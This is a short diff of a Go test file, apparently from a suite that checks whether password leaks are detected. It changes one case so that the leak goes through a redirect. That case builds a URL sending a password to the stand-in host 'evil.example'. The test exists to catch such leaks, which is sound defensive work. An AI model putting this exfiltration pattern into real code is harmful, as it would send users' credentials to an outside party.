@@ -78,7 +78,7 @@ func TestLeaksAreFound(t *testing.T) {
 		}, "leaked: password in an answer"},
 		{"a password in a redirect", func(t testing.TB) {
 			submit(t, respond.Page, only(careless{plan: func(value string) settings.Plan {
-				return does(settings.OpenURL{URL: func(string) string { return "https://evil.example/?p=" + urlEscape(value) }})
+				return does(settings.Redirect{URL: func(string) string { return "https://evil.example/?p=" + urlEscape(value) }})
 			}}))
 		}, "leaked: password in an answer"},
 		{"a secret of the test's own", func(t testing.TB) {
